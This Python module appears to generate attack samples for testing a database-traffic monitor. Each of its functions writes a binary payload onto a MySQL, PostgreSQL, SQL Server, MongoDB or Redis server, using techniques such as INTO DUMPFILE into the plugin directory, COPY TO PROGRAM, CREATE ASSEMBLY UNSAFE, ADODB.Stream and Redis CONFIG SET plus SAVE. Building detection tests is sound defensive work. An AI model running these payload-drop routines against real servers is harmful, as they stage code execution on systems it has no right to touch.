"""Files that come as values: libraries and programs that are stored, or written by a server for its client."""

# ruff: noqa: E501 -- a row is a line

from __future__ import annotations

import base64
import struct
from collections.abc import Callable, Iterator

from eudaemon.protocols.mongodb.bson import Long
from protocols import mongo_client, mssql_client, mysql_client, postgres_client
from protocols.postgres_client import bind, message
from vectors.shells import HOST, steps
from vectors.vector import Attack, Vector

STEP_BYTES = 300_001
Bring = Callable[[Attack, bytes], None]


def hexadecimal(data: bytes) -> bytes:
    return data.hex().encode()


# --- MySQL ----------------------------------------------------------------------------------------------


def _mysql(attack: Attack) -> mysql_client.Client:
    return mysql_client.Client(attack.table("mysql", host=HOST, port=3306))


def mysql_text(data: bytes) -> bytes:
    for mark, code in ((b"\\", b"\\\\"), (b"'", b"\\'"), (b"\0", b"\\0"), (b"\n", b"\\n"), (b"\x1a", b"\\Z")):
        data = data.replace(mark, code)
    return b"binary '%s'" % data


def dumpfile(spelt: Callable[[bytes], bytes]) -> Bring:
    def bring(attack: Attack, data: bytes) -> None:
        _mysql(attack).do(b"select %s into dumpfile '/usr/lib/mysql/plugin/u.so'" % spelt(data))

    return bring


def piece_by_piece(attack: Attack, data: bytes) -> None:
    """Into a table, more of it with concat, and out."""
    client = _mysql(attack)
    client.do(b"create database d; use d; create table y(data longblob); insert into y values ('')")
    for piece in steps(data, attack.dice, STEP_BYTES):
        client.do(b"update y set data = concat(data, 0x%s)" % hexadecimal(piece))
    client.do(b"select data from y into dumpfile '/usr/lib/mysql/plugin/u.so'")


def left_in_a_table(attack: Attack, data: bytes) -> None:
    client = _mysql(attack)
    client.do(b"use mysql; create table y(data longblob)")
    client.do(b"insert into y values (0x%s)" % hexadecimal(data))


# --- PostgreSQL -----------------------------------------------------------------------------------------


def _postgres(attack: Attack) -> postgres_client.Client:
    return postgres_client.Client(attack.table("postgres", host=HOST, port=5432))


def large_object(attack: Attack, data: bytes) -> None:
    client = _postgres(attack)
    client.do(b"select lo_from_bytea(44, decode('%s', 'hex'))" % hexadecimal(data))
    client.do(b"select lo_export(44, '/tmp/x.so')")


def pages(attack: Attack, data: bytes) -> None:
    client = _postgres(attack)
    client.do(b"select lo_create(44)")
    rows = [b"INSERT INTO pg_largeobject (loid, pageno, data) VALUES (44, %d, decode('%s', 'base64'))"
            % (number, base64.b64encode(data[number * 2048 :][:2048])) for number in range(-(-len(data) // 2048))]  # fmt: skip
    for first in range(0, len(rows), 150):
        client.do(b";".join(rows[first : first + 150]))
    client.do(b"select lo_export(44, '/tmp/x.so')")


def parameters(attack: Attack, data: bytes) -> None:
    client, at = _postgres(attack), 0
    client.do(b"select lo_create(44)")
    client.send(message(b"P", b"\0select lo_put(44, $1, $2)\0" + struct.pack(">HII", 2, 20, 17)))
    for piece in steps(data, attack.dice, STEP_BYTES):
        client.send(bind(struct.pack(">q", at), piece, formats=b"\0\1\0\1") + message(b"E", bytes(5)))
        at += len(piece)
    client.send(message(b"S"))
    client.do(b"select lo_export(44, '/tmp/x.so')")


def left_in_an_object(attack: Attack, data: bytes) -> None:
    _postgres(attack).do(b"select lo_from_bytea(44, '\\x%s')" % hexadecimal(data))


def copy_in_binary(attack: Attack, data: bytes) -> None:
    _postgres(attack).do(b"copy (select '\\x%s'::bytea) to '/tmp/b' with binary" % hexadecimal(data))


def copied(data: bytes) -> bytes:
    return b"PGCOPY\n\xff\r\n\0" + bytes(8) + b"\0\1" + struct.pack(">I", len(data)) + data + b"\xff\xff"


def copy_from_the_client(attack: Attack, data: bytes) -> None:
    client = _postgres(attack)
    client.do(b"create table u(l text)")
    client.do(b"copy u from stdin")
    for piece in steps(data, attack.dice, 60_000):
        client.table.say(message(b"d", piece))
    client.send(message(b"c"))
    client.do(b"copy u to '/tmp/x.sh'")


def copy_to_a_program(attack: Attack, data: bytes) -> None:
    _postgres(attack).do(b"copy (select '%s') to program 'base64 -d > /tmp/x'" % base64.b64encode(data))


# --- SQL Server -----------------------------------------------------------------------------------------


def _mssql(attack: Attack) -> mssql_client.Client:
    client = mssql_client.Client(attack.table("mssql", host=HOST, port=1433))
    client.do(mssql_client.SWITCHED_ON)
    return client


def assembly(attack: Attack, data: bytes) -> None:
    _mssql(attack).do(b"CREATE ASSEMBLY [a] FROM 0x%s WITH PERMISSION_SET = UNSAFE" % hexadecimal(data))


def assembly_by_parameter(attack: Attack, data: bytes) -> None:
    words = (b"create assembly a from @b", b"@b varbinary(max)")
    given = (*(mssql_client.nvarchar("", word) for word in words), mssql_client.varbinary("@b", data))
    _mssql(attack).send(mssql_client.call(10, *given))


def stream(attack: Attack, data: bytes) -> None:
    """ADODB.Stream, as sqlmap writes a file."""
    pieces = b"".join(b"exec sp_oamethod @s, 'Write', null, 0x%s " % hexadecimal(piece)
                      for piece in steps(data, attack.dice, 2_000_000))  # fmt: skip
    _mssql(attack).do(b"declare @s int exec sp_oacreate 'ADODB.Stream', @s out exec sp_oasetproperty @s, 'Type', 1 "
                      b"exec sp_oamethod @s, 'Open' " + pieces +
                      b"exec sp_oamethod @s, 'SaveToFile', null, 'c:\\a.exe', 2 exec sp_oadestroy @s")  # fmt: skip


def text_stream(attack: Attack, data: bytes) -> None:
    """Scripting.FileSystemObject, a line a call: a script for cscript."""
    lines = b"".join(b"exec sp_oamethod @t, 'WriteLine', null, '%s' " % line for line in data.splitlines())
    _mssql(attack).do(b"declare @f int, @t int exec sp_oacreate 'Scripting.FileSystemObject', @f out "
                      b"exec sp_oamethod @f, 'CreateTextFile', @t out, 'c:\\x.vbs', 1 " + lines +
                      b"exec sp_oamethod @t, 'Close'")  # fmt: skip


def left_in_a_servers_table(attack: Attack, data: bytes) -> None:
    client = _mssql(attack)
    client.do(b"create table x(b varbinary(max))")
    client.do(b"insert into x values (0x%s)" % hexadecimal(data))


# --- without SQL ----------------------------------------------------------------------------------------


def grid(attack: Attack, data: bytes) -> None:
    client, step = mongo_client.Client(attack.table("mongodb", host=HOST, port=27_017)), 255 * 1024
    parts = [{"files_id": 7, "n": at // step, "data": data[at : at + step]} for at in range(0, len(data), step)]
    for part in reversed(parts):
        client.send(mongo_client.msg({"insert": "fs.chunks"}, "d", beside={"documents": [part]}))
    client.do("insert", "fs.files", "d", documents=[{"_id": 7, "filename": "x", "length": Long(len(data))}])


def value(attack: Attack, data: bytes) -> None:
    mongo_client.Client(attack.table("mongodb", host=HOST)).do("insert", "t", "d", documents=[{"payload": data}])


def _resp(*words: bytes) -> bytes:
    return b"*%d\r\n" % len(words) + b"".join(b"$%d\r\n%s\r\n" % (len(word), word) for word in words)


def redis(*after: bytes, before: tuple[bytes, ...] = ()) -> Bring:
    """A command that ends with the file; then others."""

    def bring(attack: Attack, data: bytes) -> None:
        line = attack.table("redis", host=HOST, port=6379)
        line.say(_resp(*before, data, *([b"0"] if before[0] == b"EVAL" else [])))
        for command in after:
            line.say(command + b"\r\n")

    return bring


def redis_pieces(attack: Attack, data: bytes) -> None:
    line = attack.table("redis", host=HOST, port=6379)
    for piece in steps(data, attack.dice, STEP_BYTES):
        line.say(_resp(b"APPEND", b"x", piece))
    line.say(b"config set dir /tmp\r\nconfig set dbfilename x.so\r\nsave\r\n")


def rows() -> Iterator[Vector]:
    """Yield the rows."""
    events = "what is smaller stands in the events"
    yield Vector(
        "mysql",
        "INTO DUMPFILE, 0x…",
        dumpfile(lambda data: b"0x" + hexadecimal(data) if data else b"''"),
        broken="encoded",
    )
    yield Vector("mysql", "INTO DUMPFILE, text", dumpfile(mysql_text), broken="encoded")
    yield Vector(
        "mysql",
        "INTO DUMPFILE, from_base64",
        dumpfile(lambda data: b"from_base64('%s')" % base64.b64encode(data)),
        broken="encoded",
    )
    yield Vector("mysql", "INSERT, UPDATE concat, INTO DUMPFILE", piece_by_piece, 1, broken="as it is")
    yield Vector("mysql", "left in a table", left_in_a_table, 512, why=events, broken="encoded")
    yield Vector("postgres", "lo_from_bytea, lo_export", large_object, broken="encoded")
    yield Vector("postgres", "pg_largeobject page by page", pages, broken="encoded")
    yield Vector("postgres", "lo_put with parameters", parameters, broken="as it is")
    yield Vector("postgres", "left in a large object", left_in_an_object, broken="encoded")
    yield Vector("postgres", "COPY TO a file, binary", copy_in_binary, form=copied, broken="encoded")
    yield Vector("postgres", "COPY FROM STDIN, COPY TO a file", copy_from_the_client, 64, text_ends=b"\n")
    yield Vector(
        "postgres", "COPY TO PROGRAM", copy_to_a_program, 1, 4097, "what stands in one command", broken="encoded"
    )
    yield Vector("mssql", "CREATE ASSEMBLY 0x…", assembly, 1, broken="encoded")
    yield Vector("mssql", "CREATE ASSEMBLY with a parameter", assembly_by_parameter, broken="encoded")
    yield Vector("mssql", "ADODB.Stream", stream, 1, broken="encoded")
    yield Vector(
        "mssql",
        "Scripting.FileSystemObject",
        text_stream,
        64,
        65_536,
        "a batch has 200,000 words",
        text_ends=b"\r\n",
        broken="encoded",
    )
    yield Vector("mssql", "left in a table", left_in_a_servers_table, 512, why=events, broken="encoded")
    yield Vector("mongodb", "GridFS", grid, broken="encoded")
    yield Vector("mongodb", "a binary value", value, 1, broken="encoded")
    saved = (b"config set dir /tmp", b"config set dbfilename x.so", b"save")
    yield Vector("redis", "SET, CONFIG SET, SAVE", redis(*saved, before=(b"SET", b"x")), inside=True)
    yield Vector("redis", "APPEND, CONFIG SET, SAVE", redis_pieces, 1, inside=True, broken="as it is")
    yield Vector("redis", "EVAL", redis(before=(b"EVAL",)))
    yield Vector("redis", "SCRIPT LOAD", redis(before=(b"SCRIPT", b"LOAD")))
